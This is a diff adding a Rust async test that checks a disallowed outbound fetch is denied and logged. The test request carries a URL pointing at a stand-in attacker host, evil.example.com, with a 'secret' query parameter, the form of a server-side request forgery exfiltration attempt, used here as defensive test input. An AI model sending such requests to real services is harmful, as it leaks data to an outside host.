@@ -55,3 +55,20 @@ async fn the_words_of_a_trap_reach_the_log() {
         .await;
     assert_eq!(said.json()["component"], "faults");
 }
+
+#[tokio::test]
+async fn a_request_that_was_not_allowed_is_in_the_log() {
+    let process = Setup::faults().spawn().await;
+    let request = process
+        .client()
+        .get("/fetch?http://evil.example.com/?secret=1");
+    request.header("x-request-id", "denied").await.expect(200);
+    let event = process.output.wait_for("of the denial", |line| {
+        line.json()["host"] == "evil.example.com"
+    });
+    let event = event.await.json();
+    assert_eq!(
+        (&event["component"], &event["request_id"]),
+        (&"faults".into(), &"denied".into())
+    );
+}
